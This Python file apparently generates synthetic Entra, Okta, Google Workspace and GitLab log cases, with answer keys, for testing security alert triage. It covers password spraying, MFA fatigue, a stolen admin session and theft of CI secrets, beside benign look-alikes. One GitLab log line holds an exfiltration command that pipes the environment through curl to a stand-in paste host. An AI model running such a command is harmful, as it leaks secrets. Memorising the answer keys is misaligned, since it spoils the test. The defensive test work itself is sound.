# ruff: noqa: E501
"""Sign-in and administration logs: Entra, Okta, Google Workspace, GitLab."""

from datetime import datetime
from typing import Any

from casebook import Case, Log, iso

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"
)


def sign_in(
    case: Case, when: datetime, user: str, address: str, code: int = 0, reason: str = "", **more: Any
) -> dict[str, Any]:
    """An Entra sign-in as the diagnostic setting exports it."""
    return {
        "time": iso(when, 6),
        "resourceId": "/tenants/7d1c/providers/Microsoft.aadiam",
        "operationName": "Sign-in activity",
        "category": "SignInLogs",
        "resultType": str(code),
        "resultDescription": reason,
        "callerIpAddress": address,
        "properties": {
            "id": case.uuid(),
            "createdDateTime": iso(when),
            "userPrincipalName": user,
            "appDisplayName": more.pop("app", "Office 365 Exchange Online"),
            "ipAddress": address,
            "clientAppUsed": more.pop("client", "Browser"),
            "location": {"countryOrRegion": more.pop("country", "NO")},
            "deviceDetail": {"displayName": more.pop("device", ""), "operatingSystem": "Windows 10"},
            "status": {"errorCode": code, "failureReason": reason or "Other."},
            "authenticationRequirement": more.pop("requirement", "multiFactorAuthentication"),
            **more,
        },
    }


def directory_audit(
    case: Case, when: datetime, actor: str, address: str, activity: str, target: str, **changed: str
) -> dict[str, Any]:
    """An Entra audit entry."""
    return {
        "time": iso(when, 6),
        "operationName": activity,
        "category": "AuditLogs",
        "resultType": "Success",
        "properties": {
            "id": case.uuid(),
            "activityDisplayName": activity,
            "activityDateTime": iso(when),
            "initiatedBy": {"user": {"userPrincipalName": actor, "ipAddress": address}},
            "targetResources": [
                {
                    "displayName": target,
                    "modifiedProperties": [{"displayName": name, "newValue": value} for name, value in changed.items()],
                }
            ],
        },
    }


def entra_background(
    case: Case, log: Log, people: list[str], office: str, domain: str, events: int, hours: float
) -> None:
    """People signing in from the office and from home, now and then with a typing mistake."""
    homes = {person: case.public() for person in people}
    for _ in range(events):
        person, when = case.dice.choice(people), case.sometime(hours=hours)
        address = office if case.dice.random() < 0.6 else homes[person]
        app = case.dice.choice(("Office 365 Exchange Online", "Microsoft Teams", "SharePoint Online", "Salesforce"))
        wrong = case.dice.random() < 0.04
        log.add(
            when,
            sign_in(
                case,
                when,
                f"{person}@{domain}",
                address,
                50126 if wrong else 0,
                "Invalid username or password." if wrong else "",
                app=app,
                device=f"LT-{person.upper()}",
            ),
        )


def spraying_and_consent() -> Case:
    """Password spraying, a tired owner of a telephone, and an application that reads mail."""
    case = Case("m06_entra_spray_mfa_fatigue", "2025-09-18 04:00:00")
    people = [
        "anna",
        "birk",
        "carla",
        "dag",
        "eva",
        "frode",
        "gro",
        "hans",
        "ida",
        "jon",
        "kari",
        "lars",
        "mia",
        "nora",
        "odd",
        "pia",
        "rolf",
        "siv",
        "tor",
        "una",
    ]
    logs = case.log("SignInLogs.json")
    audit = case.log("AuditLogs.json")
    domain, attacker = "stavern.example", "203.0.113.77"
    entra_background(case, logs, people, "28.14.3.9", domain, 210, 7)
    for position, person in enumerate(people):
        for turn in range(2):
            when = case.after(hours=1 + turn, seconds=13 * position)
            if person == "gro" and turn == 1:
                logs.add(
                    when,
                    sign_in(
                        case,
                        when,
                        f"{person}@{domain}",
                        attacker,
                        50074,
                        "Strong authentication is required.",
                        country="MD",
                    ),
                    "hit",
                )
            else:
                logs.add(
                    when,
                    sign_in(
                        case,
                        when,
                        f"{person}@{domain}",
                        attacker,
                        50126,
                        "Invalid username or password.",
                        country="MD",
                        client="Other clients",
                    ),
                    "spray",
                )
    for turn in range(7):
        when = case.after(hours=2, minutes=10, seconds=45 * turn)
        logs.add(
            when,
            sign_in(
                case,
                when,
                f"gro@{domain}",
                attacker,
                500121,
                "Authentication failed during strong authentication request: user declined.",
                country="MD",
            ),
            "fatigue",
        )
    when = case.after(hours=2, minutes=16)
    logs.add(when, sign_in(case, when, f"gro@{domain}", attacker, 0, "", country="MD"), "success")
    for minutes, activity, target, step, changed in (
        (20, "User registered security info", f"gro@{domain}", "method", {"method": "Authenticator App with Code"}),
        (
            26,
            "Consent to application",
            "MailSync Helper",
            "consent",
            {"ConsentAction.Permissions": "Mail.ReadWrite offline_access", "ConsentType": "Principal"},
        ),
        (
            27,
            "Add delegated permission grant",
            "Microsoft Graph",
            "consent",
            {"DelegatedPermissionGrant.Scope": "Mail.ReadWrite offline_access"},
        ),
        (
            31,
            "New-InboxRule",
            f"gro@{domain}",
            "rule",
            {"Name": "..", "MoveToFolder": "RSS Feeds", "SubjectContainsWords": "invoice;payment"},
        ),
    ):
        when = case.after(hours=2, minutes=minutes)
        audit.add(when, directory_audit(case, when, f"gro@{domain}", attacker, activity, target, **changed), step)
    for _ in range(60):
        when = case.sometime(hours=7)
        person = case.dice.choice(people)
        activity = case.dice.choice(("Update user", "Add member to group", "Update device", "Change user license"))
        audit.add(when, directory_audit(case, when, f"it-admin@{domain}", "28.14.3.9", activity, f"{person}@{domain}"))
    case.alert = {
        "AlertDisplayName": "Multiple rejected authentication requests followed by an approval",
        "AlertSeverity": "High",
        "TimeGenerated": iso(case.after(hours=2, minutes=16), 3),
        "Entities": [{"Type": "account", "UPN": f"gro@{domain}"}, {"Type": "ip", "Address": attacker}],
    }
    return case.judge(
        "malicious",
        "high critical",
        "One address tries two passwords on twenty accounts, gets gro's right, sends authentication requests until one is approved, registers its own method, consents to a mail application and hides invoices with an inbox rule.",
        steps={
            "spray": "the same address fails on twenty accounts",
            "fatigue": "authentication requests are declined one after the other",
            "success": "then one is approved",
            "consent": "an application gets access to the mailbox",
        },
        optional={
            "hit": "the password of one account is right",
            "method": "a new authentication method is registered",
            "rule": "an inbox rule hides invoices",
        },
        techniques="T1110.003 T1621 T1564.008",
        more_techniques="T1110 T1078.004 T1098.005 T1528 T1114.003 T1114.002 T1550.001 T1556.006 T1098 T1671 T1564 T1114",
        iocs=(attacker,),
        more_iocs=("MailSync Helper", f"gro@{domain}"),
        not_iocs=("28.14.3.9", f"it-admin@{domain}"),
    )


def forgotten_password() -> Case:
    """Failures, a self-service reset, success, all from the person's own laptop and home."""
    case = Case("b06_entra_forgotten_password", "2025-05-05 06:00:00")
    people = ["berit", "cato", "dina", "egil", "fredrik", "guro"]
    log = case.log("entra-export.jsonl")
    domain = "lillesand.example"
    entra_background(case, log, people, "22.91.7.3", domain, 180, 9)
    home, user = "55.120.14.88", f"guro@{domain}"
    for hours in (0.4, 0.9):
        when = case.after(hours=hours)
        log.add(when, sign_in(case, when, user, home, 0, device="LT-GURO"), "usual")
    for turn in range(9):
        when = case.after(hours=5, seconds=21 * turn)
        code, reason = (50126, "Invalid username or password.") if turn < 8 else (50053, "The account is locked.")
        log.add(when, sign_in(case, when, user, home, code, reason, device="LT-GURO"), "failures")
    when = case.after(hours=5, minutes=6)
    log.add(
        when,
        directory_audit(
            case, when, user, home, "Reset password (self-service)", user, method="Mobile app notification, SMS"
        ),
        "reset",
    )
    when = case.after(hours=5, minutes=7)
    log.add(when, directory_audit(case, when, user, home, "Unlock user account (self-service)", user), "reset")
    for minutes in (9, 11, 40):
        when = case.after(hours=5, minutes=minutes)
        log.add(
            when,
            sign_in(
                case,
                when,
                user,
                home,
                0,
                device="LT-GURO",
                authenticationDetails=[{"authenticationMethod": "Mobile app notification", "succeeded": True}],
            ),
            "success",
        )
    case.alert = {
        "id": case.uuid(),
        "rule": {"name": "Brute force: lock-out followed by password change and sign-in", "level": 13},
        "data": {"user": user, "ip": home},
        "timestamp": case.after(hours=5, minutes=9).strftime("%Y-%m-%d %H:%M:%S"),
    }
    return case.judge(
        "benign",
        "informational low",
        "guro mistypes the password at home until the account is locked, resets it with two methods of her own, and signs in with the telephone from the same laptop and address as in the morning.",
        steps={
            "failures": "failures for one account only, from its own device",
            "reset": "a self-service reset with two methods",
            "success": "success with strong authentication from the same device",
        },
        optional={"usual": "the same address and device in the morning"},
        not_iocs=(home, user),
    )


def okta(
    case: Case,
    when: datetime,
    actor: str,
    address: str,
    event_type: str,
    message: str,
    outcome: str = "SUCCESS",
    target: str = "",
    **more: Any,
) -> dict[str, Any]:
    """An Okta system log event."""
    return {
        "uuid": case.uuid(),
        "published": iso(when, 3),
        "eventType": event_type,
        "displayMessage": message,
        "severity": "INFO" if outcome == "SUCCESS" else "WARN",
        "actor": {"id": f"00u{case.hex(12)}", "type": "User", "alternateId": actor},
        "client": {
            "ipAddress": address,
            "userAgent": {"rawUserAgent": more.pop("agent", CHROME)},
            "geographicalContext": {"country": more.pop("country", "Denmark")},
        },
        "outcome": {"result": outcome, "reason": more.pop("reason", None)},
        "securityContext": {"asOrg": more.pop("as_org", "tdc net"), "isProxy": more.pop("is_proxy", False)},
        "target": [{"type": "User", "alternateId": target}] if target else [],
        "debugContext": {"debugData": more},
    }


def okta_background(
    case: Case, log: Log, people: list[str], office: str, domain: str, events: int, hours: float
) -> None:
    """Sessions, single sign-on and second factors of a working day."""
    kinds = (
        ("user.session.start", "User login to Okta"),
        ("user.authentication.sso", "User single sign on to app"),
        ("user.authentication.auth_via_mfa", "Authentication of user via MFA"),
        ("policy.evaluate_sign_on", "Evaluation of sign-on policy"),
    )
    for _ in range(events):
        when = case.sometime(hours=hours)
        event_type, message = case.dice.choice(kinds)
        log.add(when, okta(case, when, f"{case.dice.choice(people)}@{domain}", office, event_type, message))


def stolen_session() -> Case:
    """An administrator's session is used through a proxy to weaken and widen access."""
    case = Case("m07_okta_stolen_admin_session", "2025-06-03 12:00:00")
    log = case.log("okta-system-log.jsonl")
    domain, attacker = "ribe.example", "198.51.100.61"
    okta_background(case, log, ["asta", "bo", "claus", "ditte", "emil", "freja"], "30.77.1.4", domain, 230, 6)
    admin = f"emil@{domain}"
    foreign = {
        "country": "Seychelles",
        "as_org": "flyhost",
        "is_proxy": True,
        "agent": "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
    }
    acts = (
        (
            200,
            "session",
            "user.session.context.change",
            "User session context changed",
            "",
            {"reason": "device and network differ", "dtHash": case.hex(16)},
        ),
        (203, "session", "user.session.access_admin_app", "User accessing Okta admin app", "", {}),
        (207, "factor", "user.mfa.factor.deactivate", "Reset factor for user", f"bo@{domain}", {}),
        (
            208,
            "factor",
            "user.mfa.factor.activate",
            "Enroll factor for user",
            f"bo@{domain}",
            {"factor": "OKTA_VERIFY"},
        ),
        (
            212,
            "grant",
            "user.account.privilege.grant",
            "Grant user privilege",
            f"bo@{domain}",
            {"privilegeGranted": "Super administrator"},
        ),
        (218, "token", "system.api_token.create", "Create API token", "", {"tokenName": "sync2"}),
        (
            225,
            "idp",
            "system.idp.lifecycle.create",
            "Create Identity Provider",
            "",
            {"idpName": "corp-backup", "idpType": "SAML2"},
        ),
    )
    for minutes, step, event_type, message, target, details in acts:
        when = case.after(minutes=minutes)
        log.add(when, okta(case, when, admin, attacker, event_type, message, target=target, **foreign, **details), step)
    when = case.after(minutes=229)
    log.add(
        when,
        okta(case, when, f"bo@{domain}", "203.0.113.9", "user.session.start", "User login to Okta", **foreign),
        "second",
    )
    case.alert = {
        "title": "Super administrator granted",
        "severity": "High",
        "eventTime": iso(case.after(minutes=212), 3),
        "actor": admin,
        "grantedTo": f"bo@{domain}",
        "sourceIp": attacker,
    }
    return case.judge(
        "malicious",
        "high critical",
        "emil's running session changes network and device; from a proxy it resets bo's factors, makes bo super administrator, creates a token and a second identity provider; bo's account then logs in from another address.",
        steps={
            "session": "the session moves to a proxy in another country",
            "factor": "another person's factors are replaced",
            "grant": "that person becomes super administrator",
        },
        optional={
            "token": "a token is created",
            "idp": "a second identity provider is created",
            "second": "the raised account logs in from a second outside address",
        },
        techniques="T1098.003 T1556.006 T1539",
        more_techniques="T1550.004 T1078.004 T1098 T1098.001 T1484.002 T1556 T1090 T1098.005 T1078 T1606 T1556.007",
        iocs=(attacker, "203.0.113.9"),
        more_iocs=("corp-backup", "sync2", admin, f"bo@{domain}"),
        not_iocs=("30.77.1.4", f"asta@{domain}"),
    )


def help_desk() -> Case:
    """The help desk resets a factor for a new telephone, with a ticket; the owner enrols at the office."""
    case = Case("b07_okta_help_desk_new_phone", "2025-02-20 07:00:00")
    log = case.log("system_log.json")
    domain, office = "skagen.example", "21.60.2.10"
    okta_background(case, log, ["anders", "birthe", "carl", "dorte"], office, domain, 190, 8)
    desk = f"helpdesk-lone@{domain}"
    for position, (person, ticket) in enumerate((("anders", "HD-7711"), ("carl", "HD-7714"), ("dorte", "HD-7719"))):
        step = "alerted" if person == "dorte" else "habit"
        when = case.after(hours=1 + 2 * position)
        log.add(
            when,
            okta(
                case,
                when,
                desk,
                office,
                "user.mfa.factor.reset_all",
                "Reset all factors for user",
                target=f"{person}@{domain}",
                comment=f"{ticket} new telephone, identity checked by video",
            ),
            step,
        )
        for minutes, event_type, message in (
            (6, "user.session.start", "User login to Okta"),
            (7, "user.mfa.factor.activate", "Enroll factor for user"),
            (9, "user.authentication.auth_via_mfa", "Authentication of user via MFA"),
        ):
            when = case.after(hours=1 + 2 * position, minutes=minutes)
            log.add(
                when,
                okta(case, when, f"{person}@{domain}", office, event_type, message, target=f"{person}@{domain}"),
                "enrol" if person == "dorte" else "~enrol",
            )
    case.alert = {
        "detection": "All second factors of a user were reset by someone else",
        "confidence": "high",
        "ts": case.after(hours=5).timestamp(),
        "subject": {"by": desk, "of": f"dorte@{domain}"},
    }
    return case.judge(
        "benign",
        "informational low",
        "The help desk resets factors for three people that day, each with a ticket; dorte enrols her new telephone from the office minutes later.",
        steps={
            "alerted": "the alerted reset, with its ticket",
            "enrol": "the owner enrols and logs in at the office minutes later",
        },
        optional={"habit": "the same for two other people that day"},
        not_iocs=(office, desk, f"dorte@{domain}"),
    )


def workspace(
    case: Case, when: datetime, actor: str, address: str, application: str, name: str, **parameters: str
) -> dict[str, Any]:
    """A Google Workspace activity."""
    return {
        "kind": "admin#reports#activity",
        "id": {"time": iso(when, 3), "uniqueQualifier": str(case.dice.getrandbits(60)), "applicationName": application},
        "actor": {"email": actor, "profileId": str(case.dice.getrandbits(60))},
        "ipAddress": address,
        "events": [
            {
                "type": application.upper(),
                "name": name,
                "parameters": [{"name": key, "value": value} for key, value in parameters.items()],
            }
        ],
    }


def enrolment_campaign() -> Case:
    """The administrator enforces two-step verification; people change their security settings in one morning."""
    case = Case("b08_workspace_two_step_enrolment", "2025-08-25 06:00:00")
    log = case.log("workspace-activities.jsonl")
    domain, office, admin = "tromoy.example", "11.40.5.2", "ops@tromoy.example"
    people = [
        f"{name}@{domain}"
        for name in (
            "ask",
            "bodil",
            "celine",
            "didrik",
            "elin",
            "finn",
            "geir",
            "hege",
            "ivar",
            "june",
            "knut",
            "liv",
            "magne",
            "nina",
        )
    ]
    for _ in range(200):
        when, person = case.sometime(hours=8), case.dice.choice(people)
        application, name = case.dice.choice(
            (("login", "login_success"), ("drive", "view"), ("drive", "edit"), ("token", "authorize"))
        )
        log.add(
            when,
            workspace(
                case, when, person, office, application, name, doc_title="plan" if application == "drive" else "-"
            ),
        )
    when = case.after(hours=1)
    log.add(
        when,
        workspace(
            case,
            when,
            admin,
            office,
            "admin",
            "ENFORCE_STRONG_AUTHENTICATION",
            ORG_UNIT_NAME="/",
            NEW_VALUE="from 2025-09-01",
            REASON="announced in all-hands 18 August",
        ),
        "policy",
    )
    for position, person in enumerate(people):
        when = case.after(hours=2, minutes=7 * position)
        step = "alerted" if position == 9 else "others"
        log.add(when, workspace(case, when, person, office, "user_accounts", "2sv_enroll"), step)
        log.add(when, workspace(case, when, person, office, "user_accounts", "recovery_phone_edit"), step)
    case.alert = {
        "alertType": "Suspicious change of account recovery and verification settings",
        "severity": "HIGH",
        "data": {"email": people[9], "ip": office},
        "createTime": iso(case.after(hours=3, minutes=3)),
    }
    return case.judge(
        "benign",
        "informational low",
        "The administrator announces and enforces two-step verification; fourteen people enrol from the office that morning, the alerted one among them.",
        steps={
            "alerted": "the alerted change",
            "policy": "enforcement was announced and switched on",
            "others": "thirteen others do the same from the same office",
        },
        not_iocs=(office, people[9], admin),
    )


def gitlab(
    case: Case, when: datetime, author: str, address: str, event_type: str, target: str, **details: Any
) -> dict[str, Any]:
    """A GitLab audit event as the audit stream sends it."""
    return {
        "id": case.uuid(),
        "author_id": case.dice.randrange(10, 99),
        "author_name": author,
        "entity_path": target,
        "event_type": event_type,
        "ip_address": address,
        "created_at": iso(when, 3),
        "details": {"custom_message": details.pop("message", event_type.replace("_", " ")), **details},
    }


def pipeline_secrets() -> Case:
    """A maintainer's token is used to loosen a repository and take its secrets."""
    case = Case("m08_gitlab_audit_pipeline_secrets", "2025-04-08 17:00:00")
    log = case.log("audit_json.log")
    people, office = ["yara", "zeno", "quinn", "vera"], "7.33.18.2"
    projects = ["harbour/api", "harbour/web", "harbour/infra"]
    for _ in range(220):
        when = case.sometime(hours=8)
        action = case.dice.choice(
            (
                "user_authenticated_using_oauth",
                "merge_request_merged_by_project_bot",
                "ci_pipeline_created",
                "repository_git_operation",
                "merge_request_approval_operation",
            )
        )
        log.add(when, gitlab(case, when, case.dice.choice(people), office, action, case.dice.choice(projects)))
    attacker = "203.0.113.92"
    acts = (
        (
            300,
            "token",
            "personal_access_token_created",
            {"message": "Created personal access token with scopes api, write_repository"},
        ),
        (306, "loosen", "protected_branch_removed", {"message": "Unprotected branch main", "branch": "main"}),
        (307, "loosen", "project_merge_requests_approvals_changed", {"from": "2", "to": "0"}),
        (
            311,
            "push",
            "repository_git_operation",
            {"action": "git-receive-pack", "ref": "refs/heads/main", "message": "Pushed .gitlab-ci.yml"},
        ),
        (
            312,
            "run",
            "ci_pipeline_created",
            {"message": "Pipeline 88210 created: env | base64 | curl -d @- https://paste.oakhollow.example/u"},
        ),
        (
            316,
            "variables",
            "ci_variables_viewed",
            {"message": "Viewed masked variables AWS_SECRET_ACCESS_KEY, DEPLOY_SSH_KEY"},
        ),
        (
            322,
            "runner",
            "ci_runner_registered",
            {"message": "Registered project runner build-extra-3", "runner_contacted_at": None},
        ),
        (330, "deploy_key", "deploy_key_added", {"message": "Added deploy key backup with write access"}),
    )
    for minutes, step, action, details in acts:
        when = case.after(minutes=minutes)
        log.add(when, gitlab(case, when, "quinn", attacker, action, "harbour/infra", **details), step)
    case.alert = {
        "message": "Protected branch removed on harbour/infra",
        "level": "error",
        "when": {
            "date": case.after(minutes=306).strftime("%d %b %Y"),
            "clock": case.after(minutes=306).strftime("%H:%M"),
        },
        "actor": {"login": "quinn", "remote": attacker},
    }
    return case.judge(
        "malicious",
        "high critical",
        "From an address never seen before quinn's account makes a token, removes the protection of the infrastructure repository, pushes a pipeline that sends the environment outside, views masked variables, registers a runner and adds a deploy key.",
        steps={
            "loosen": "protection and approvals are removed",
            "run": "a pipeline sends the environment outside",
            "variables": "masked variables are viewed",
            "deploy_key": "a key with write access is added",
        },
        optional={
            "token": "a wide token is made",
            "push": "the pipeline definition is pushed",
            "runner": "a runner is registered",
        },
        techniques="T1552.001 T1098.001",
        more_techniques="T1078.004 T1078 T1552 T1098 T1098.004 T1195.002 T1567 T1041 T1562 T1562.001 T1213.003 T1048 T1059 T1555 T1528 T1195 T1677",
        iocs=(attacker, "paste.oakhollow.example"),
        more_iocs=("https://paste.oakhollow.example/u", "build-extra-3", "quinn"),
        not_iocs=(office, "yara", "zeno"),
    )


def unknown_user() -> Case:
    """The alert is about a person whose events are not among the lines given."""
    case = Case("x03_okta_other_day", "2025-12-01 00:00:00")
    log = case.log("okta.jsonl")
    okta_background(case, log, ["per", "ane", "ulf"], "33.8.1.1", "mandal.example", 140, 20)
    case.alert = {
        "displayMessage": "Impossible travel",
        "severity": "WARN",
        "published": "2025-12-03T09:14:55.101Z",
        "actor": {"alternateId": "solveig@mandal.example"},
        "client": {"ipAddress": "198.51.100.212"},
    }
    return case.judge(
        "insufficient_evidence",
        "informational low medium",
        "The lines end a day before the alert and hold nothing of solveig or the address.",
        steps={},
        not_iocs=("solveig@mandal.example", "33.8.1.1"),
    )


CASES = (
    spraying_and_consent,
    forgotten_password,
    stolen_session,
    help_desk,
    enrolment_campaign,
    pipeline_secrets,
    unknown_user,
)
